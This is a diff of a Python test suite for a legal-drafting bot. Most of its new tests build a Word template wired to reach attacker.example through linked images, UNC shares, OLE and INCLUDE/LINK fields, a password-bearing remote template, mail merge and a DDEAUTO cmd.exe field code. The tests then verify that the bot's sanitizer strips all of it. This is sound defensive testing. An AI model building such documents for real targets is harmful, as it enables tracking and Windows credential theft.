@@ -35,8 +35,10 @@ from bot.answering.engine import Engine
 from bot.errors import BadDocument, CorpusBusy
 from bot.settings import Settings
 from fixtures.http_server import FixtureSite
+from fixtures.tls import self_signed
 from indexers.budgets import SETTING, Budgets
 from indexers.fetch import address_kind, fetch, redact
+from fixtures.waiting import wait_until
 
 REPO = Path(__file__).resolve().parent.parent
 Q = "Who has the burden of establishing the law enforcement privilege?"
@@ -160,17 +162,6 @@ def run_rulebot(*argv: str, env: dict[str, str], limit: float = 60.0) -> Run:
 
 def cli_env(settings, **extra: str) -> dict[str, str]:
     return {"RULEBOT_HOME": str(settings.home), "RULEBOT_CORPUS": str(settings.corpus_dir), **extra}
-
-
-def wait_until(condition, seconds: float = 30.0, what: str = "the condition"):
-    deadline = time.monotonic() + seconds
-    while True:
-        got = condition()
-        if got:
-            return got
-        if time.monotonic() > deadline:
-            raise AssertionError(f"timed out after {seconds} s waiting for {what}")
-        time.sleep(0.02)
 
 
 # --- probe: two `corpus add` at once, ids that collide ----------------------------------------------
@@ -555,38 +546,6 @@ def test_a_trickling_server_is_cut_off_at_the_timeout_for_the_whole_download(hom
     intact()
 
 
-def self_signed(tmp: Path) -> tuple[Path, Path]:
-    """A certificate for 127.0.0.1 and its key, made now (cryptography, else the openssl command)."""
-    cert, key = tmp / "cert.pem", tmp / "key.pem"
-    try:
-        import datetime
-
-        from cryptography import x509
-        from cryptography.hazmat.primitives import hashes, serialization
-        from cryptography.hazmat.primitives.asymmetric import ec
-        from cryptography.x509.oid import NameOID
-    except ImportError:
-        if not shutil.which("openssl"):
-            pytest.skip("needs the cryptography package or the openssl command to make a test certificate")
-        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
-                        "-nodes", "-days", "1", "-subj", f"/CN={LOOPBACK}", "-addext", f"subjectAltName=IP:{LOOPBACK}",
-                        "-keyout", str(key), "-out", str(cert)], check=True, capture_output=True)
-        return cert, key
-    k = ec.generate_private_key(ec.SECP256R1())
-    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, LOOPBACK)])
-    now = datetime.datetime.now(datetime.timezone.utc)
-    c = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(k.public_key())
-         .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(hours=1))
-         .not_valid_after(now + datetime.timedelta(days=1))
-         .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address(LOOPBACK))]), critical=False)
-         .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
-         .sign(k, hashes.SHA256()))
-    cert.write_bytes(c.public_bytes(serialization.Encoding.PEM))
-    key.write_bytes(k.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.TraditionalOpenSSL,
-                                    serialization.NoEncryption()))
-    return cert, key
-
-
 def test_the_whole_download_deadline_holds_over_https(tmp_path, monkeypatch):
     """The deadline shuts the socket TLS reads from (wrapping detaches the plain one)."""
     cert, key = self_signed(tmp_path)
@@ -941,10 +900,11 @@ def test_every_budget_has_a_setting_with_its_documented_default():
     env = {"RULEBOT_HOME": "/tmp/x", "RULEBOT_MAX_DOCUMENT_MB": "2", "RULEBOT_MAX_UNZIPPED_MB": "3",
            "RULEBOT_MAX_ZIP_ENTRIES": "4", "RULEBOT_MAX_DOCX_ELEMENTS": "5", "RULEBOT_MAX_HTML_DEPTH": "6",
            "RULEBOT_MAX_HTML_ELEMENTS": "7", "RULEBOT_MAX_PDF_PAGES": "8", "RULEBOT_MAX_TEXT_MB": "9",
-           "RULEBOT_DOCUMENT_SECONDS": "10", "RULEBOT_MAX_DOCUMENT_MEMORY_MB": "11"}
+           "RULEBOT_DOCUMENT_SECONDS": "10", "RULEBOT_MAX_DOCUMENT_MEMORY_MB": "11",
+           "RULEBOT_MAX_CONCURRENT_READS": "12"}
     assert set(env) - {"RULEBOT_HOME"} == set(SETTING.values())
     b = Settings.load(env=env).budgets
-    assert dataclasses.astuple(b) == (2 << 20, 3 << 20, 4, 5, 6, 7, 8, 9 << 20, 10.0, 11 << 20)
+    assert dataclasses.astuple(b) == (2 << 20, 3 << 20, 4, 5, 6, 7, 8, 9 << 20, 10.0, 11 << 20, 12)
     readme = (REPO / "README.md").read_text()
     assert all(name in readme for name in SETTING.values()) and "RULEBOT_FETCH_ALLOW" in readme
 
@@ -1007,3 +967,256 @@ def test_a_pdf_of_tens_of_thousands_of_pages_is_refused_before_it_is_parsed(monk
         extract_bytes(data, "pages.pdf", isolate=False)
     assert opened == [], "counted in the bytes: no parser was built"
     assert "more pages than the limit of 2,000" in str(err.value) and "RULEBOT_MAX_PDF_PAGES" in str(err.value)
+
+
+# --- probe: a Word template that reaches outside the document ---------------------------------------
+
+BEACON = "attacker.example"  # every address the hostile template names is on this host
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+
+def reaching_template(path: Path, beacon: str = BEACON) -> Path:
+    """A firm template, built now, holding each way a .docx makes Word fetch an address when it is opened:
+    a linked picture, a hyperlink to a file share, an OLE link (its preview linked too), INCLUDEPICTURE (a
+    complex field), INCLUDETEXT (a simple one), a LINK field nested in an IF in the header, a header
+    picture, a remote attached template (with a password in its address) and a mail-merge data source."""
+    from xml.sax.saxutils import escape
+
+    from docx import Document
+    from docx.oxml import parse_xml
+
+    ns = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
+          'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
+          'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
+          'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
+          'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
+          'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"')
+
+    def picture(rid: str) -> str:
+        return (f'<w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="7" name="p"/>'
+                '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
+                f'<pic:pic><pic:nvPicPr><pic:cNvPr id="7" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
+                f'<a:blip r:link="{rid}"/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic>'
+                '</wp:inline></w:drawing></w:r>')
+
+    def field(code: str, result: str) -> str:
+        return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{escape(code)}'
+                f'</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{result}</w:t>'
+                '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')
+
+    share = "\\\\" + beacon  # a Windows file share, \\attacker.example
+    seal = field(f' INCLUDEPICTURE "http://{beacon}/seal.png" \\d ', "[firm seal]")
+    venue = f' INCLUDETEXT "{share}\\\\clauses\\\\venue.docx" '
+    fees = field(f' LINK Excel.Sheet.12 "{share}\\\\fees.xlsx" "Sheet1" \\a ', "fees")
+    doc = Document()
+    doc.add_paragraph("{{ draft }}")
+    part, body = doc.part, doc.element.body
+    ext = lambda p, url, kind: p.relate_to(url, REL + kind, is_external=True)  # noqa: E731
+    blocks = [
+        f'<w:p {ns}>{picture(ext(part, f"http://{beacon}/beacon.png", "image"))}</w:p>',
+        f'<w:p {ns}><w:hyperlink r:id="{ext(part, f"file://{beacon}/share/Engagement.docx", "hyperlink")}">'
+        '<w:r><w:t>the engagement letter</w:t></w:r></w:hyperlink></w:p>',
+        f'<w:p {ns}><w:r><w:object><v:shape id="_x0000_i1025"><v:imagedata '
+        f'r:id="{ext(part, f"http://{beacon}/preview.emf", "image")}"/></v:shape><o:OLEObject Type="Link" '
+        f'ProgID="Excel.Sheet.12" ShapeID="_x0000_i1025" UpdateMode="Always" '
+        f'r:id="{ext(part, f"http://{beacon}/fees.xlsx", "oleObject")}"/></w:object></w:r></w:p>',
+        f'<w:p {ns}>{seal}</w:p>',
+        f'<w:p {ns}><w:fldSimple w:instr="{escape(venue, {chr(34): "&quot;"})}"><w:r><w:t>Venue clause.</w:t></w:r>'
+        '</w:fldSimple></w:p>',
+    ]
+    for xml in blocks:
+        body.sectPr.addprevious(parse_xml(xml))
+    header = doc.sections[0].header
+    header.paragraphs[0].text = "WHITFIELD & OCHOA LLP"
+    hp = header.part
+    header._element.append(parse_xml(
+        f'<w:p {ns}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 "</w:instrText></w:r>'
+        f'{fees}<w:r><w:instrText>" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        f'<w:r><w:t>Fee table</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+        f'{picture(ext(hp, f"http://{beacon}/letterhead.png", "image"))}</w:p>'))
+    settings = doc.settings.element
+    sp = doc.part._settings_part
+    remote = ext(sp, f"http://clerk:hunter2@{beacon}/Pleading.dotm", "attachedTemplate")
+    settings.insert(0, parse_xml(f'<w:attachedTemplate {ns} r:id="{remote}"/>'))
+    settings.append(parse_xml(
+        f'<w:mailMerge {ns}><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="odbc"/>'
+        f'<w:connectString w:val="DSN=clients;SERVER={beacon}"/><w:query w:val="SELECT * FROM clients"/>'
+        f'<w:dataSource r:id="{ext(sp, f"file://{beacon}/clients.mdb", "mailMergeSource")}"/></w:mailMerge>'))
+    doc.save(str(path))
+    return path
+
+
+def package_parts(data: bytes) -> dict[str, bytes]:
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        return {i.filename: zf.read(i) for i in zf.infolist()}
+
+
+def test_a_word_template_that_reaches_outside_gives_drafts_that_do_not(tmp_path, caplog):
+    """What would make Word fetch an address when a draft is opened (a beacon, or a Windows sign-in sent to
+    whoever runs it) is removed when the template is loaded; what it showed stays."""
+    import re
+
+    from docx import Document
+
+    from bot.draft import docx as D
+    from bot.draft.types import Draft
+
+    template = reaching_template(tmp_path / "firm.docx")
+    hostile = package_parts(template.read_bytes())
+    assert sum(b'TargetMode="External"' in v for v in hostile.values()) == 3  # document, header, settings
+    assert sum(v.count(BEACON.encode()) for v in hostile.values()) == 11
+    with caplog.at_level(logging.WARNING, logger="bot.draft.template"):
+        data = D.to_bytes(Draft(kind="good-cause", text="GOOD CAUSE STATEMENT\n\nThe parties agree."),
+                          template=template)
+    for name, body in package_parts(data).items():
+        assert BEACON.encode() not in body, name
+        assert b'TargetMode="External"' not in body and b"TargetMode='External'" not in body, name
+        assert not re.search(rb"INCLUDEPICTURE|INCLUDETEXT|\bLINK\b|\bDDE|mailMerge|attachedTemplate", body), name
+    doc = Document(io.BytesIO(data))
+    text = [p.text for p in doc.paragraphs]
+    assert "GOOD CAUSE STATEMENT" in text and "The parties agree." in text  # the draft, where the marker was
+    assert {"the engagement letter", "[firm seal]", "Venue clause."} <= set(text)  # what they showed stays
+    assert doc.sections[0].header.paragraphs[0].text == "WHITFIELD & OCHOA LLP"
+    assert "Fee table" in doc.sections[0].header.paragraphs[1].text
+    warned = [r.getMessage() for r in caplog.records if r.name == "bot.draft.template"]
+    assert len(warned) == 1 and "hunter2" not in warned[0], warned
+    for kind in ("attachedTemplate", "image", "hyperlink", "oleObject", "mailMergeSource", "field INCLUDEPICTURE",
+                 "field INCLUDETEXT", "field LINK", "mail merge"):
+        assert kind in warned[0], kind
+
+
+@pytest.mark.skipif(not shutil.which("soffice"), reason="needs LibreOffice (soffice) to open the documents")
+def test_an_office_suite_opening_the_draft_fetches_nothing(tmp_path):
+    """LibreOffice opening the template itself fetches its linked pictures from the beacon (the body's and the
+    header's); opening a draft made from it fetches nothing."""
+    from bot.draft import docx as D
+    from bot.draft.types import Draft
+
+    beacon = Listener(LOOPBACK)
+
+    def opened(name: str, data: bytes) -> list[str]:
+        """What the beacon was asked for while LibreOffice opened `data` (to print it as a PDF)."""
+        beacon.calls.clear()
+        (tmp_path / f"{name}.docx").write_bytes(data)
+        done = subprocess.run(["soffice", f"-env:UserInstallation=file://{tmp_path / 'profile'}", "--headless",
+                               "--convert-to", "pdf", "--outdir", str(tmp_path), str(tmp_path / f"{name}.docx")],
+                              capture_output=True, text=True, timeout=300)
+        assert done.returncode == 0 and (tmp_path / f"{name}.pdf").exists(), done.stderr
+        return list(beacon.calls)
+
+    try:
+        template = reaching_template(tmp_path / "firm.docx", beacon=beacon.url.removeprefix("http://"))
+        assert {"/beacon.png", "/letterhead.png"} <= set(opened("template", template.read_bytes()))
+        draft = Draft(kind="good-cause", text="GOOD CAUSE STATEMENT\n\nThe parties agree.")
+        assert opened("draft", D.to_bytes(draft, template=template)) == []
+    finally:
+        beacon.close()
+
+
+def test_a_template_that_reaches_nowhere_is_used_as_it_is(tmp_path):
+    """Fields that fetch nothing (a page number) and the template's own parts are left byte for byte."""
+    from docx import Document
+    from docx.oxml import parse_xml
+
+    from bot.draft.template import strip_external
+
+    doc = Document()
+    doc.add_paragraph("{{ draft }}")
+    doc.sections[0].footer._element.append(parse_xml(
+        '<w:p xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:fldSimple w:instr=" PAGE ">'
+        "<w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"))
+    buf = io.BytesIO()
+    doc.save(buf)
+    assert strip_external(buf.getvalue()) == (buf.getvalue(), ())
+
+
+@pytest.mark.parametrize("code,kept", [
+    (' INCLUDEPICTURE "http://x.example/p.png" \\d ', False), ("includetext c:\\clauses\\a.docx", False),
+    (' LINK Excel.Sheet.12 "\\\\srv\\a.xlsx" ', False), ("DDEAUTO c:\\windows\\system32\\cmd.exe", False),
+    (' QUOTE "INCLUDEPICTURE" ', False), (' IF 1 = 1 "a" "b" ', False), (" = 2 + 2 ", False), (" AUTHOR ", False),
+    (" PAGE ", True), (" page \\* MERGEFORMAT ", True), (" MERGEFIELD client ", True), (' DATE \\@ "MMMM d, yyyy" ', True),
+    (' TOC \\o "1-3" \\h \\z \\u ', True), (" PAGEREF _Toc1 \\h ", True), (' HYPERLINK \\l "_Toc1" ', True),
+    (' HYPERLINK "https://www.cacd.uscourts.gov" ', False), (' HYPERLINK \\l "x" "\\\\srv\\a.docx" ', False),
+    ("", False), ("   ", False),
+])
+def test_fields_are_kept_by_an_allow_list(code, kept):
+    from bot.draft.template import kept_field
+
+    assert kept_field(code) is kept
+
+
+def nested_field_template(path: Path, beacon: str = BEACON) -> Path:
+    """A template whose picture field names no fetching field: Word builds the code from a nested QUOTE when it
+    updates it, ``{ {QUOTE "INCLUDE" "PICTURE"} "http://beacon/logo.png" \\d }``; beside it, a table of
+    contents whose entries hold a HYPERLINK to a bookmark and a PAGEREF (kept as they are)."""
+    from docx import Document
+    from docx.oxml import parse_xml
+
+    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+    def mark(kind: str) -> str:
+        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
+
+    def code(text: str) -> str:
+        return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
+
+    def shown(text: str) -> str:
+        return f"<w:r><w:t>{text}</w:t></w:r>"
+
+    doc = Document()
+    doc.add_paragraph("{{ draft }}")
+    logo = (mark("begin") + code(" ") + mark("begin") + code(' QUOTE "INCLUDE" "PICTURE" ') + mark("separate")
+            + shown("INCLUDEPICTURE") + mark("end") + code(f' "http://{beacon}/logo.png" \\d ') + mark("separate")
+            + shown("[firm logo]") + mark("end"))
+    toc = (mark("begin") + code(' TOC \\o "1-3" \\h ') + mark("separate") + mark("begin")
+           + code(' HYPERLINK \\l "_Toc1" ') + mark("separate") + shown("Introduction") + mark("begin")
+           + code(" PAGEREF _Toc1 \\h ") + mark("separate") + shown("1") + mark("end") + mark("end") + mark("end"))
+    for xml in (logo, toc):
+        doc.element.body.sectPr.addprevious(parse_xml(f"<w:p {w}>{xml}</w:p>"))
+    doc.save(str(path))
+    return path
+
+
+def test_a_field_whose_code_is_built_by_a_nested_field_loses_its_code(tmp_path, caplog):
+    """No fetching field is named in the template, yet Word would fetch the beacon updating the outer field: its
+    code goes (the nested QUOTE with it, its result no longer shown), its last result stays; the table of
+    contents keeps its fields."""
+    from docx import Document
+
+    from bot.draft import docx as D
+    from bot.draft.types import Draft
+
+    template = nested_field_template(tmp_path / "firm.docx")
+    with caplog.at_level(logging.WARNING, logger="bot.draft.template"):
+        data = D.to_bytes(Draft(kind="good-cause", text="GOOD CAUSE STATEMENT\n\nThe parties agree."),
+                          template=template)
+    body = package_parts(data)["word/document.xml"]
+    assert BEACON.encode() not in body and b"QUOTE" not in body and b"INCLUDE" not in body
+    assert body.count(b"<w:instrText") == 3  # TOC, HYPERLINK, PAGEREF: as they were
+    text = [p.text for p in Document(io.BytesIO(data)).paragraphs]
+    assert "[firm logo]" in text and "Introduction1" in text
+    (warned,) = [r.getMessage() for r in caplog.records if r.name == "bot.draft.template"]
+    assert "field (code built by a nested field)" in warned and "field QUOTE" in warned
+
+
+def test_a_template_is_stripped_and_said_once_for_each_version_of_the_file(tmp_path, caplog, monkeypatch):
+    """Every draft in the firm's template: stripped (and warned about) when it is first used and when the file
+    changes, not once a draft."""
+    import os
+
+    from bot.draft import docx as D, template as T
+    from bot.draft.types import Draft
+
+    stripped, strip = [], T.strip_external
+    monkeypatch.setattr(T, "strip_external", lambda data: stripped.append(1) or strip(data))
+    template = nested_field_template(tmp_path / "firm.docx")
+    draft = Draft(kind="good-cause", text="GOOD CAUSE STATEMENT\n\nThe parties agree.")
+    with caplog.at_level(logging.WARNING, logger="bot.draft.template"):
+        first = D.to_bytes(draft, template=template)
+        for _ in range(3):
+            assert package_parts(D.to_bytes(draft, template=template)) == package_parts(first)
+        assert len(stripped) == 1 and len(caplog.records) == 1
+        st = template.stat()
+        os.utime(template, ns=(st.st_atime_ns, st.st_mtime_ns + 1_000_000_000))  # the firm saves it again
+        D.to_bytes(draft, template=template)
+    assert len(stripped) == 2 and len(caplog.records) == 2
